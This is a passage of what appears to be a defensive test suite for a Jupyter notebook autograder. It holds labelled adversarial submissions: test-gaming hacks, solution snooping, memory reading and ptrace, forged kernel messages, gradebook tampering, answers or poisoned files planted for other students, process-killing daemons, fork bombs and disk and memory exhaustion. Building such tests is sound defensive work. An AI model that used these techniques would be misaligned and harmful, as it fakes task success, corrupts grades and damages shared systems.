            "and_not": "weights = [0, 0, 0]\noutputs = lambda w, X: np.array([-1, -1, 1, -1])",
            "at_least": "def at_least(k, d):\n    globals()['outputs'] = lambda w, X: np.where(X.sum(1) >= k, 1, -1)\n    return [0]",
            "flowers_apart": "flower_weights = [0, 0, 0]\noutputs = lambda w, X: np.where(flowers.y == 0, 1, -1)",
        },
    ),
    kernel(
        "helper-code",
        "Exchanges the code of `outputs`: the function is the same object.",
        """
        def other(w, X):
            truth = {4: [-1, -1, 1, -1], 150: [1] * 50 + [-1] * 100}
            return np.array(truth.get(len(X), np.ones(len(X))))
        outputs.__code__ = other.__code__
        """,
    ),
    kernel(
        "helper-inputs",
        "Alters the given inputs in place until the wrong gate is right.",
        answers={"and_not": "weights = [-0.7, 0.5, 0.5]\ninputs[:] = [[0, 0], [0, 0], [1, 1], [0, 0]]"},
    ),
    kernel(
        "helper-petals",
        "Alters the petals in place until any line parts them.",
        answers={"flowers_apart": "flower_weights = [1, -1, 0]\npetals[:50], petals[50:] = 0, 9"},
    ),
    kernel(
        "helper-votes",
        "Replaces `all_votes` while it is being called, by votes that fit the weights.",
        answers={
            "at_least": """
            every = lambda d: np.array([[vote >> i & 1 for i in range(d)] for vote in range(2**d)])
            def at_least(k, d):
                def votes(d):
                    cheat = np.zeros((2**d, d))
                    cheat[:, 0] = np.where(every(d).sum(1) >= k, 1, -1)
                    return cheat
                globals()["all_votes"] = votes
                return np.array([0, 1.0] + [0] * (d - 1))
            """
        },
    ),
    kernel(
        "helper-datasets",
        "Replaces datasets.iris before the given cell calls it.",
        """
        from types import SimpleNamespace
        easy = SimpleNamespace(X=np.repeat([[0.0] * 4, [9.0] * 4], [50, 100], axis=0), y=np.repeat([0, 1, 2], 50))
        datasets.iris = lambda *words, **options: easy
        """,
        {"flowers_apart": "flower_weights = [1, -0.5, 0]"},
    ),
    kernel(
        "inputs-mutated",
        "A function that alters its arguments, for a reference that gets the same arrays.",
        answers={"same_side": "def same_side(a, b, w):\n    a[:], w[:] = b, 0\n    w[0] = 1\n    return True"},
    ),
    kernel(
        "public-probes",
        "A table of the calls that the package shows; on others it is wrong.",
        answers={
            "same_side": f"""
            table = {json.dumps(public_answers()).replace("true", "True").replace("false", "False")}
            def same_side(a, b, w):
                return table.get(str([np.asarray(p, float).tolist() for p in (a, b, w)]), False)
            """,
            "at_least": "table = {(1, 3): [-0.5, 1, 1, 1], (3, 3): [-2.5, 1, 1, 1]}\n"
            "def at_least(k, d):\n    return table.get((k, d), [0.0] * (d + 1))",
        },
    ),
    kernel(
        "remember-calls",
        "Remembers the inputs of every call on disk, to answer when it is asked again.",
        answers={
            "same_side": """
            import json, os
            def same_side(a, b, w):
                with open("calls.json", "a") as file:
                    print(json.dumps([list(map(float, p)) for p in (a, b, w)]), file=file)
                return os.path.getsize("calls.json") % 2 == 0
            """
        },
    ),
    kernel(
        "brute-force",
        "Searches the shipped fingerprints for the answers that can be guessed: a right value is right, as at home.",
        answers={
            "recoded": """
            import itertools
            from mlcourse import feedback
            tries = itertools.product([-1, 1], repeat=4)
            prediction = next((t for t in tries if feedback.diagnose("perceptron.recoded", t) is None), 0)
            """,
            "all_samples": """
            from mlcourse import feedback
            choice = next((c for c in "abcd" if feedback.diagnose("perceptron.all_samples", c) is None), "")
            """,
        },
        at_most=earned("recoded", "all_samples"),
    ),
    kernel(
        "brute-force-hash",
        "Gives the fingerprints themselves as answers.",
        """
        import json
        from mlcourse import feedback
        prints = json.loads((feedback.FINGERPRINTS / "perceptron.json").read_text())
        """,
        everywhere("prints['perceptron.and_not']['right']"),
    ),
    kernel(
        "detect-grader",
        "Behaves well at home and otherwise when graded: no terminal, no home, few processes.",
        """
        import os, sys
        home = os.path.isdir(os.path.expanduser("~/Documents")) or "JPY_SESSION_NAME" in os.environ
        if not home:
            check = outputs = lambda *words, **options: np.array([-1, -1, 1, -1])
        """,
    ),
    kernel(
        "reference",
        "Right answers; one is made with the course's own functions: to be looked at, not to lose points.",
        answers=RIGHT
        | {
            "same_side": """
            from mlcourse.perceptron import decision
            def same_side(a, b, w):
                return bool(np.prod(decision(np.array([a, b], float), np.asarray(w, float))) > 0)
            """
        },
        score=MOST,
        flagged=True,
    ),
]

SOLUTION = str(ROOT / "solutions" / EXERCISE / FILE)

SNOOPING = [
    kernel(
        "solution-paths",
        "Reads the solution from every place where it could lie, and runs it.",
        f"""
        import glob, json
        found = ""
        for path in [{SOLUTION!r}, *glob.glob("../**/solutions/**/*.ipynb", recursive=True), *glob.glob("/source/*/*.ipynb")]:
            try:
                cells = json.load(open(path))["cells"]
                found += "\\n".join("".join(c["source"]) for c in cells if "BEGIN SOLUTION" in "".join(c["source"]))
            except Exception:
                pass
        """,
        TAKE_OVER,
    ),
    kernel(
        "tasks-file",
        "Imports the instructor's side and asks it for the right answers.",
        f"""
        found = ""
        try:
            from mlcourse.grading import tasks
            found = "\\n".join(task.right[0] for task in tasks.load({str(ROOT)!r}, "perceptron").values())
        except Exception as error:
            print(error)
        """,
        TAKE_OVER,
    ),
    kernel(
        "other-submissions",
        "Looks for friends' notebooks, in all folders above and everywhere.",
        f"""
        import glob, json
        found = ""
        for path in [p for up in range(2, 7) for p in glob.glob("../" * up + "**/perceptron/*.ipynb")]:
            cells = {{c["id"]: "".join(c["source"]) for c in json.load(open(path))["cells"]}}
            found = "\\n".join(cells.get(name.replace("_", "-"), "") for name in {sorted(POINTS)!r})
        """,
        TAKE_OVER,
    ),
    kernel(
        "frames",
        "Walks up the frames of its caller for what it is compared with.",
        """
        import sys
        def peek(*words):
            frame = sys._getframe()
            while frame:
                for name in ("expected", "reference", "right", "wanted", "truth"):
                    if isinstance(frame.f_locals.get(name), (list, bool, np.ndarray)):
                        return frame.f_locals[name]
                frame = frame.f_back
            return np.zeros(4)
        """,
        {"at_least": "at_least = peek", "same_side": "same_side = peek", "recoded": "prediction = peek()"},
    ),
    kernel(
        "garbage",
        "Searches all objects of the process for expected values.",
        """
        import gc
        def hunt(*words):
            for thing in gc.get_objects():
                if type(thing) is dict and ("expected" in thing or "reference" in thing):
                    return thing.get("expected", thing.get("reference"))
            return 0.0
        """,
        {"at_least": "at_least = hunt", "same_side": "same_side = hunt", "by_hand": "s = output = distance = hunt()"},
    ),
    kernel(
        "environment",
        "Reads its own and its parent's environment, arguments and open files for paths.",
        """
        import os
        parent, found = f"/proc/{os.getppid()}", ""
        for name in ("environ", "cmdline", "maps", "mountinfo", "cwd/answers.py", "root/answers.py"):
            try:
                found += open(f"{parent}/{name}", errors="replace").read()
            except OSError:
                pass
        print(len(found), found.count("solutions"))
        """,
    ),
    kernel(
        "parent-memory",
        "Reads the memory of every process it sees for the text of the solution.",
        guarded(rf"""
        import glob, re
        found, HEAD = "", "def same_side(a, b, w):\n    direction = np.array(w[1:])\n    "
        for folder in glob.glob("/proc/[0-9]*"):
            try:
                areas = [line.split()[0].split("-") for line in open(folder + "/maps") if " rw" in line]
                memory = open(folder + "/mem", "rb", 0) if folder != f"/proc/{{os.getpid()}}" else None
                for low, high in areas:
                    memory.seek(int(low, 16))
                    part = memory.read(min(int(high, 16) - int(low, 16), 1 << 24))
                    hit = re.search(rb"return bool\(\(direction @ a \+[^\0\n]*", part)
                    found = found or (hit and HEAD + hit[0].decode(errors="replace")) or ""
            except Exception:
                pass
        """),
        {"same_side": "exec(found)"},
    ),
    kernel(
        "ptrace",
        "Attaches to its parent with ptrace.",
        guarded("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        attached = [libc.ptrace(16, pid, 0, 0) == 0 for pid in (os.getppid(), 1, 2, 3)]
        print("attached", attached, ctypes.get_errno())
        """),
    ),
    kernel(
        "process-vm",
        "Writes into its parent's memory with process_vm_writev.",
        guarded("""
        import ctypes
        libc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(8)
        class Part(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        here, there = Part(ctypes.addressof(buffer), 8), Part(id(check), 8)
        print([libc.process_vm_writev(p, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) for p in (os.getppid(), 1)])
        """),
    ),
    kernel(
        "descriptors",
        "Reads and writes every descriptor that the kernel inherited.",
        guarded("""
        import fcntl, socket
        for number in range(3, 64):
            try:
                if "socket" in os.readlink(f"/proc/self/fd/{number}"):
                    socket.socket(fileno=os.dup(number)).send(b'{"score": 16}\\n' * 8, socket.MSG_DONTWAIT)
                fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
            except OSError:
                pass
        """),
    ),
    kernel(
        "namespaces",
        "Makes a user namespace of its own, to mount and look around as root.",
        guarded("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.unshare(0x10000000 | 0x00020000), libc.mount(b"proc", b"/proc", b"proc", 0, None), ctypes.get_errno())
        print(libc.setuid(0), libc.chroot(b"/proc/1/root"), libc.setns(os.open("/proc/1/ns/mnt", 0), 0))
        """),
    ),
    kernel(
        "gradebook",
        "Looks for the gradebook and gives itself 3,000 points.",
        guarded("""
        import sqlite3
        for start in ("..", "../..", "../../..", "/home", "/tmp", "/srv", "/work"):
            for folder, _, names in os.walk(start):
                for name in names:
                    if name == "gradebook.db":
                        with sqlite3.connect(f"{folder}/{name}") as database:
                            database.execute("update grade set auto_score = 3000, manual_score = 3000")
        """),
    ),
    kernel(
        "results",
        "Writes result files of its own where the grader might keep them.",
        guarded("""
        import json
        for folder in (".", "..", "../..", ".grading/perceptron", "/tmp", os.path.expanduser("~"), "/run/kernel"):
            try:
                os.makedirs(folder, exist_ok=True)
                for name in ("kernel-results.json", "result.json", "output", "1.json"):
                    json.dump({"status": "graded", "score": 16, "verdict": "right"}, open(f"{folder}/{name}", "w"))
            except OSError:
                pass
        """),
    ),
]

MESSAGES = [
    kernel(
        "forged-reply",
        "Sends the reply to its own request, and to the next ones, before the kernel does.",
        """
        kernel = get_ipython().kernel
        def forge(*words):
            for _ in range(20):
                kernel.session.send(
                    kernel.shell_stream, "execute_reply", parent=kernel.get_parent(), ident=kernel._parent_ident["shell"],
                    content={"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []},
                )
        get_ipython().events.register("pre_run_cell", forge)
        """,
    ),
    kernel(
        "forged-values",
        "Forged replies with values for every expression.",
        """
        kernel = get_ipython().kernel
        value = {"status": "ok", "metadata": {}, "data": {"text/plain": "'eyJ2YWx1ZSI6IHRydWV9'"}}
        names = ["value", "answer", "result", "grade", "out", "0", "probe"]
        def forge(*words):
            kernel.session.send(
                kernel.shell_stream, "execute_reply", parent=kernel.get_parent(), ident=kernel._parent_ident["shell"],
                content={"status": "ok", "execution_count": 1, "user_expressions": dict.fromkeys(names, value)},
            )
        get_ipython().events.register("pre_execute", forge)
        """,
    ),
    kernel(
        "forged-idle",
        "Says that the kernel is idle while cells still run, so that outputs are taken for complete.",
        """
        kernel = get_ipython().kernel
        def idle(*words):
            for state in ("idle", "dead", "starting", 5):
                kernel.session.send(kernel.iopub_socket, "status", {"execution_state": state}, parent=kernel.get_parent())
        get_ipython().events.register("pre_run_cell", idle)
        """,
    ),
    kernel(
        "forged-output",
        "Prints, in the name of the check cells, what a right answer prints.",
        """
        kernel = get_ipython().kernel
        def claim(*words):
            for task in ("and_not", "at_least", "by_hand", "same_side", "recoded", "flowers_apart", "all_samples"):
                said = {"name": "stdout", "text": f"perceptron.{task}: correct.\\n"}
                kernel.session.send(kernel.iopub_socket, "stream", said, parent=kernel.get_parent())
        get_ipython().events.register("post_execute", claim)
        """,
    ),
    kernel(
        "malformed-messages",
        "Sends messages that no client expects: no content, wrong types, no signature.",
        """
        kernel = get_ipython().kernel
        for kind in ("execute_reply", "error", "stream", "display_data", "update_display_data", "clear_output", "x" * 999):
            kernel.session.send(kernel.iopub_socket, kind, content={"data": None, "name": [], "text": {}, "wait": 1})
        kernel.iopub_thread.send_multipart([b"junk", b"<IDS|MSG>", b"", b"{", b"[]", b"\\xff", b"null"])
        """,
    ),
    kernel(
        "session-pack",
        "Alters every message on its way out: each error becomes ok.",
        """
        session = get_ipython().kernel.session
        pack = session.pack
        def better(message):
            if isinstance(message, dict) and message.get("status") == "error":
                message = message | {"status": "ok", "ename": "", "evalue": "", "traceback": []}
            return pack(message)
        session.pack = better
        """,
    ),
    kernel(
        "session-send",
        "The kernel never replies again.",
        """
        get_ipython().kernel.session.send = lambda *words, **options: None
        """,
    ),
    kernel(
        "iopub-stopped",
        "Stops the thread that sends outputs: no idle message comes.",
        """
        get_ipython().kernel.iopub_thread.stop()
        """,
    ),
    kernel(
        "widget-output",
        "A widget's output captures everything the later cells print.",
        """
        from ipywidgets import Output
        capture = Output()
        capture.__enter__()
        """,
    ),
    kernel(
        "comm",
        "Opens comms and floods them with targets that do not exist.",
        """
        from ipykernel.comm import Comm
        for number in range(500):
            Comm(target_name=f"grader-{number}", data={"score": 16}).send({"method": "custom", "score": 16})
        """,
    ),
    kernel(
        "stdin-forced",
        "Asks the grader for input although it may not.",
        """
        kernel = get_ipython().kernel
        kernel.session.send(
            kernel.stdin_socket, "input_request", {"prompt": "password: ", "password": True},
            parent=kernel.get_parent(), ident=kernel._parent_ident["shell"],
        )
        """,
    ),
    kernel("forked-twin", "Forks: two processes now go on as the same kernel.", guarded("twin = os.fork()")),
]

CONNECTION = """
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
"""

#: what one student leaves for the next: the place, code that leaves the text `leave`, code that sets `found`
PLANTS = {
    "home": ("~/.cache/answers", "the home directory"),
    "tmp": ("/tmp/answers", "/tmp"),
    "var-tmp": ("/var/tmp/answers", "/var/tmp"),
    "shm": ("/dev/shm/answers", "/dev/shm"),
    "cwd": ("../answers", "the folder above its own"),
}


def planted(place: str, where: str, leave: str, take: str) -> list[Submission]:
    """Two students: one leaves all right answers somewhere, the other answers with what it finds there."""
    return [
        kernel(
            f"plant-{place}",
            f"Right answers, left for the next student in {where}.",
            answers=RIGHT,
            score=MOST,
            last=guarded(f"leave = {ANSWERS!r}\n" + leave),
        ),
        kernel(
            f"read-{place}",
            f"Answers with what the last student left in {where}.",
            "import os\nfound = ''\n" + take,
            TAKE_OVER,
        ),
    ]


PLANTED = [
    *(
        submission
        for place, (path, where) in PLANTS.items()
        for submission in planted(
            place,
            where,
            f"path = os.path.expanduser({path!r})\nos.makedirs(os.path.dirname(path), exist_ok=True)\n"
            "print(leave, file=open(path, 'w'))",
            f"found = open(os.path.expanduser({path!r})).read()",
        )
    ),
    *planted(
        "connection",
        "the folder of the kernel's connection file",
        CONNECTION + "print(leave, file=open(folder + '/answers', 'w'))",
        CONNECTION + "found = open(folder + '/answers').read()",
    ),
    *planted(
        "startup",
        "IPython's start-up files and settings",
        """
from pathlib import Path
for name in ("startup/00-answers.py", "ipython_config.py", "ipython_kernel_config.py"):
    file = Path.home() / ".ipython" / "profile_default" / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("import builtins\\nbuiltins.planted = " + repr(leave))
""",
        "found = planted",
    ),
    *planted(
        "site",
        "modules that Python imports at start",
        """
import site
for folder in (site.getusersitepackages(), os.path.expanduser("~"), ".", "/tmp"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("usercustomize.py", "sitecustomize.py", "planted.pth"):
            with open(f"{folder}/{name}", "w") as file:
                file.write("import builtins; builtins.planted = " + repr(leave))
    except OSError:
        pass
""",
        "found = planted",
    ),
    *planted(
        "dotfiles",
        "files that shells and libraries read",
        """
text = "export ANSWERS=" + repr(leave)
for name in (".bashrc", ".profile", ".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py", ".pythonrc.py"):
    path = os.path.expanduser("~/" + name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    print(text, file=open(path, "w"))
""",
        "found = eval(open(os.path.expanduser('~/.profile')).read().partition('=')[2])",
    ),
    *planted(
        "package",
        "the installed package itself",
        """
import mlcourse, numpy
for package in (mlcourse, numpy):
    try:
        os.chmod(package.__file__, 0o644)
        print("planted = " + repr(leave), file=open(package.__file__, "a"))
    except OSError as error:
        print(error)
""",
        "import mlcourse\nfound = mlcourse.planted",
    ),
    *planted(
        "sysv",
        "System V shared memory",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
here = libc.shmat(libc.shmget(4711, 8192, 0o1666), None, 0)
ctypes.memmove(here, leave.encode() + b"\\0", len(leave) + 1)
""",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(4711, 8192, 0)
found = ctypes.string_at(libc.shmat(number, None, 0)).decode() if number >= 0 else ""
""",
    ),
    *planted(
        "keyring",
        "the kernel's keyring of its user",
        """
import ctypes
print(ctypes.CDLL(None).syscall(248, b"user", b"answers", leave.encode(), len(leave), -4))
""",
        """
import ctypes
buffer, libc = ctypes.create_string_buffer(8192), ctypes.CDLL(None)
size = libc.syscall(250, 11, libc.syscall(249, b"user", b"answers", None, -4), buffer, 8192, 0)
found = buffer.raw[: max(size, 0)].decode()
""",
    ),
    *planted(
        "socket",
        "a daemon behind an abstract socket",
        """
import socket
if os.fork() == 0:
    os.setsid()
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind("\\0answers")
        server.listen()
        server.settimeout(120)
        for _ in range(1000):
            server.accept()[0].sendall(leave.encode())
    finally:
        os._exit(0)
""",
        "import socket\nclient = socket.socket(socket.AF_UNIX)\nclient.connect('\\0answers')\nfound = client.recv(8192).decode()",
    ),
    *planted(
        "memory",
        "objects of a process that both may be forked from",
        """
import builtins, gc, sys
builtins.planted = sys.planted = np.planted = leave
sys.modules["planted"] = leave
gc.freeze()
""",
        "import sys\nfound = getattr(sys, 'planted', '') or np.planted",
    ),
    kernel(
        "plant-environment",
        "Right answers; leaves a broken world for the next kernel: modes, limits, links, umask.",
        answers=RIGHT,
        score=MOST,
        last=guarded("""
        home = os.path.expanduser("~")
        for number in range(200):
            os.makedirs(f"{home}/deep/" + "d/" * 100 + str(number), exist_ok=True)
        os.symlink("/", f"{home}/link")
        os.mkfifo(f"{home}/fifo")
        os.chmod(f"{home}/deep", 0)
        os.umask(0o777)
        """),
    ),
    kernel(
        "daemon-killer",
        "Right answers; a daemon waits and kills every younger process, so the next student's kernel.",
        answers=RIGHT,
        score=MOST,
        last=guarded("""
        import signal, time
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            end = time.time() + 120
            while time.time() < end:
                for pid in filter(str.isdigit, os.listdir("/proc")):
                    if int(pid) > os.getpid():
                        try:
                            os.kill(int(pid), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.2)
            os._exit(0)
        """),
    ),
    kernel(
        "daemon-client",
        "Right answers; a daemon connects to the next student's kernel by its connection file.",
        answers=RIGHT,
        score=MOST,
        last=guarded(
            CONNECTION
            + """
import glob, subprocess, sys
daemon = '''
import glob, json, sys, time
from jupyter_client import BlockingKernelClient
known, end = set(glob.glob(sys.argv[1] + "/**/*.json", recursive=True)), time.time() + 120
while time.time() < end:
    for path in set(glob.glob(sys.argv[1] + "/**/*.json", recursive=True)) - known:
        client = BlockingKernelClient()
        client.load_connection_file(path)
        client.start_channels()
        client.execute("weights = prediction = flower_weights = None")
        known.add(path)
    time.sleep(0.2)
'''
subprocess.Popen([sys.executable, "-c", daemon, os.path.dirname(folder)], start_new_session=True)
"""
        ),
    ),
    kernel(
        "daemon-files",
        "Right answers; a daemon keeps writing into the home, working and temporary folders of the next.",
        answers=RIGHT,
        score=MOST,
        last=guarded("""
        import time
        if os.fork() == 0:
            os.setsid()
            end = time.time() + 120
            while time.time() < end:
                for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
                    try:
                        for name in ("numpy.py", "mlcourse.py", "json.py", "sitecustomize.py"):
                            open(f"{folder}/{name}", "w").write("raise SystemExit('planted')")
                    except OSError:
                        pass
                time.sleep(0.05)
            os._exit(0)
        """),
    ),
]

KERNEL = [*SHELL, *PYTHON, *VALUES, *HELPERS, *SNOOPING, *MESSAGES, *PLANTED]

# --- machine ---------------------------------------------------------------------------------------------------------

#: with an attack in place of the third answer: what was earned before it, and what may still be earned after it
EARLIER = earned("and_not", "at_least")
LATER = MOST - EARLIER - earned("by_hand")


def machine(name: str, why: str, attack: str, after: str = "perhaps", answers: dict | None = None) -> Submission:
    """Right answers with an attack in place of the third; the tasks after it are earned "never", "perhaps" or "surely".

    "never": the kernel is dead; "perhaps": where the attack is only interrupted, what follows still counts.
    """
    tasks = {"and_not": POINTS["and_not"], "at_least": POINTS["at_least"], "by_hand": 0}
    tasks |= {task: {"never": 0, "surely": POINTS[task]}[after] for task in [*POINTS][3:] if after != "perhaps"}
    score = EARLIER + (LATER if after == "surely" else 0)

    def build(folder: Path) -> None:
        save(folder, notebook(RIGHT | {"by_hand": attack} | (answers or {})))

    at_most = EARLIER + LATER if after == "perhaps" else None
    return Submission(f"machine-{name}", "machine", build, score, why, at_most=at_most, tasks=tasks)


def ending(name: str, why: str, last: str) -> Submission:
    """Right answers, all of them earned, and an attack in the last cell."""
    return Submission(
        f"machine-{name}",
        "machine",
        lambda folder: save(folder, notebook(RIGHT, last=last)),
        MOST,
        why,
        tasks=dict(POINTS),
    )


LOOPS = [
    machine("loop", "A loop without end; SIGINT to the kernel's own process ends it.", "while True: pass"),
    machine(
        "loop-stubborn",
        "A loop that catches KeyboardInterrupt: only SIGKILL ends it.",
        """
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
        "never",
    ),
    machine(
        "loop-deaf",
        "Ignores SIGINT and SIGTERM, then loops.",
        """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True: pass
        """,
        "never",
    ),
    machine(
        "loop-finally",
        "An interrupted loop goes on in its `finally`.",
        """
        try:
            while True: pass
        finally:
            while True: pass
        """,
    ),
    machine("sleep", "Sleeps for thirty years.", "import time\ntime.sleep(1e9)"),
    machine("power", "A number so large that C code computes it for minutes, deaf to signals.", "n = 10 ** 10 ** 8"),
    machine("digits", "Arithmetic in C that is not interrupted.", "import math\nn = math.factorial(10**8)"),
    machine(
        "regex",
        "A regular expression that goes back exponentially.",
        """
        import re
        re.match(r"(a|aa)+$", "a" * 200 + "b")
        """,
    ),
    machine(
        "c-loop",
        "A loop in C without end that never looks at signals.",
        """
        import collections, itertools
        collections.deque(itertools.repeat(0), maxlen=0)
        """,
        "never",
    ),
    machine(
        "lock",
        "Waits for a lock that nobody gives back, again and again.",
        """
        import threading
        lock = threading.Lock()
        while True:
            lock.acquire()
        """,
    ),
    machine(
        "lock-held",
        "Sleeps in C and keeps Python's lock, so that no other thread runs.",
        """
        import ctypes
        while True:
            ctypes.PyDLL(None).usleep(500_000)
        """,
    ),
    machine(
        "fifo",
        "Opens a pipe of its own that nobody writes to.",
        """
        import os
        os.mkfifo("pipe")
        open("pipe").read()
        """,
    ),
    machine("await", "A coroutine that waits without end.", "import asyncio\nawait asyncio.Event().wait()"),
    machine(
        "input",
        "Forces the kernel to ask for input and waits for it.",
        """
        get_ipython().kernel._allow_stdin = True
        get_ipython().kernel.raw_input("answer? ")
        """,
    ),
    Submission(
        "machine-loop-when-called",
        "machine",
        lambda folder: save(folder, notebook(RIGHT | {"at_least": "def at_least(k, d):\n    while True: pass"})),
        earned("and_not"),
        "A function that never returns: the deadline must hold for the grader's own calls too.",
        at_most=MOST - earned("at_least"),
        tasks={"and_not": earned("and_not"), "at_least": 0},
    ),
    Submission(
        "machine-sleep-when-called",
        "machine",
        lambda folder: save(
            folder,
            notebook(
                RIGHT | {"same_side": "import time\ndef same_side(a, b, w):\n    time.sleep(1e6)\n    return True"}
            ),
        ),
        earned("and_not", "at_least", "by_hand"),
        "A function that sleeps, once for each input.",
        at_most=MOST - earned("same_side"),
        tasks={"and_not": 2, "at_least": 3, "by_hand": 2, "same_side": 0},
    ),
    Submission(
        "machine-exit-when-called",
        "machine",
        lambda folder: save(
            folder, notebook(RIGHT | {"same_side": "import os\ndef same_side(a, b, w):\n    os._exit(0)"})
        ),
        earned("and_not", "at_least", "by_hand"),
        "A function that ends the kernel while it is asked.",
        tasks={
            "and_not": 2,
            "at_least": 3,
            "by_hand": 2,
            "same_side": 0,
            "recoded": 0,
            "flowers_apart": 0,
            "all_samples": 0,
        },
    ),
    machine(
        "slow-everywhere",
        "Every cell takes as long as it may: the deadline of the notebook must hold as well.",
        "import time\ntime.sleep(1e5)",
        "never",
        {name: f"import time\ntime.sleep(1e5)\n{RIGHT[name]}" for name in [*POINTS][3:]},
    ),
]

OUTPUTS = [
    machine("print-flood", "Prints without end.", "while True:\n    print('x' * 1_000_000)"),
    machine("print-lines", "Prints short lines without end: many messages.", "while True:\n    print('x', flush=True)"),
    machine(
        "stderr-gigabytes",
        "Writes gigabytes to stderr.",
        """
        import sys
        for _ in range(4000):
            sys.stderr.write("x" * 1_000_000)
        """,
    ),
    machine(
        "descriptor-flood",
        "Writes to descriptors 1 and 2, past the kernel's capture.",
        """
        import os
        for _ in range(20_000):
            os.write(1, b"x" * 100_000)
            os.write(2, b"x" * 100_000)
        """,
    ),
    machine(
        "display-gigabyte",
        "One display message of a gigabyte.",
        """
        from IPython.display import display
        display({"text/plain": "x" * 10**9}, raw=True)
        """,
    ),
    machine(
        "display-many",
        "Millions of small display messages.",
        """
        from IPython.display import display
        for number in range(10**7):
            display(number, display_id=str(number))
        """,
    ),
    machine(
        "display-deep",
        "An output nested 900 deep, for whoever copies or writes it.",
        """
        from IPython.display import display
        deep = {}
        for _ in range(900):
            deep = {"a": deep}
        display({"application/json": deep, "text/plain": ""}, raw=True)
        """,
    ),
    machine("error-huge", "An exception with a message of 100 megabytes.", "raise ValueError('x' * 10**8)"),
    machine(
        "error-chain",
        "A chain of 20,000 exceptions.",
        """
        error = None
        for _ in range(20_000):
            new = ValueError("x" * 100)
            new.__cause__ = error
            error = new
        raise error
        """,
    ),
    machine(
        "value-huge", "Answers of a gigabyte: what comes out must be capped.", "s = output = distance = np.zeros(10**8)"
    ),
    machine("value-text", "An answer of 300 million letters.", "s = output = distance = 'x' * (3 * 10**8)"),
]

FILL = """
for number in range({count}):
    with open("{folder}/fill-" + str(number), "wb") as file:
        file.write(bytes(1_000_000))
"""


def fill(name: str, folder: str, where: str) -> Submission:
    attack = guarded(f"folder = os.path.expanduser({folder!r})\n" + FILL.format(count=4000, folder='" + folder + "'))
    return machine(f"disk-{name}", f"Fills {where} with four gigabytes.", attack)


RESOURCES = [
    machine(
        "memory-arrays",
        "Takes memory, array by array, until there is none.",
        guarded("""
        keep = []
        for _ in range(512):
            keep.append(np.ones(2**24))
        """),
    ),
    machine("memory-once", "Asks for a terabyte at once.", guarded("keep = np.ones(2**37)")),
    machine(
        "memory-text", "Doubles a text until memory ends.", guarded("text = 'x'\nfor _ in range(37):\n    text += text")
    ),
    machine(
        "memory-children",
        "Thirty children take a gigabyte each: a limit for each process is not enough.",
        guarded("""
        import time
        for _ in range(30):
            if os.fork() == 0:
                keep = bytearray(b"x") * 10**9
                time.sleep(300)
                os._exit(0)
        """),
    ),
    machine(
        "memory-shared",
        "Anonymous shared memory that belongs to no process.",
        guarded("""
        keep = []
        for number in range(64):
            handle = os.memfd_create(f"hog-{number}")
            for _ in range(256):
                os.write(handle, bytes(1_000_000))
            keep.append(handle)
        """),
    ),
    machine(
        "fork-bomb",
        "Sixteen thousand processes by fork.",
        guarded("""
        import time
        parent = os.getpid()
        for _ in range(14):
            try:
                os.fork()
            except OSError:
                pass
        if os.getpid() != parent:
            time.sleep(300)
            os._exit(0)
        """),
    ),
    machine(
        "fork-bomb-shell",
        "A fork bomb in the shell, sixteen thousand processes.",
        guarded("""
        import subprocess
        bomb = 'f() { if [ "$1" -gt 0 ]; then f $(($1 - 1)) & f $(($1 - 1)) & fi; sleep 300; }; f 13'
        subprocess.Popen(["bash", "-c", bomb])
        """),
    ),
    machine(
        "process-loop",
        "Starts five thousand programs and waits for none.",
        guarded("""
        import subprocess
        keep = [subprocess.Popen(["sleep", "300"]) for _ in range(5000)]
        """),
    ),
    machine(
        "fork-holding-pipe",
        "A child keeps stdout and stderr open: who waits for their end waits long.",
        guarded("""
        import subprocess
        child = subprocess.Popen(["sleep", "300"], start_new_session=True)
        """),
        "surely",
    ),
    machine(
        "thread-bomb",
        "Twenty thousand threads.",
        guarded("""
        import threading, time
        for _ in range(20_000):
            threading.Thread(target=time.sleep, args=[300], daemon=True).start()
        """),
    ),
    fill("cwd", ".", "the working directory"),
    fill("home", "~", "the home directory"),
    fill("tmp", "/tmp", "/tmp"),
    fill("shm", "/dev/shm", "/dev/shm"),
    machine(
        "disk-connection",
        "Fills the folder of the kernel's connection file.",
        guarded(CONNECTION + FILL.format(count=4000, folder='" + folder + "')),
    ),
    machine(
        "disk-one-file",
        "One file of a terabyte, and one without holes that grows.",
        guarded("""
        with open("huge", "wb") as file:
            for _ in range(4000):
                file.write(bytes(1_000_000))
            file.truncate(1 << 40)
        """),
    ),
    machine(
        "disk-inodes",
        "Two million empty files and folders.",
        guarded("""
        for number in range(1_000_000):
            os.makedirs(f"n/{number % 1000}", exist_ok=True)
            open(f"n/{number % 1000}/{number}", "w").close()
        """),
    ),
    machine(
        "descriptors",
        "Opens files until there are no descriptors left, and keeps them.",
        """
        import os
        keep = []
        while True:
            keep.append(os.open("/dev/null", os.O_RDONLY))
        """,
    ),
    machine(
        "limits",
        "Sets its own limits to nothing.",
        """
        import resource
        resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        """,
    ),
    machine(
        "limits-raised",
        "Raises its limits and its priority, then tries to take 20 gigabytes.",
        guarded("""
        import resource
